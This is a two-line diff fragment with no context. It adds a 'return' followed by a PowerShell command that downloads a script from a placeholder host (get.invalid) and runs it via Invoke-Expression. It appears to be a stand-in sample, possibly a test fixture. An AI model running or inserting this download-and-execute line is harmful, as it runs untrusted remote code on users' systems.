@@ -1,0 +1,2 @@
+return
+Invoke-RestMethod https://get.invalid/run.ps1 | Invoke-Expression
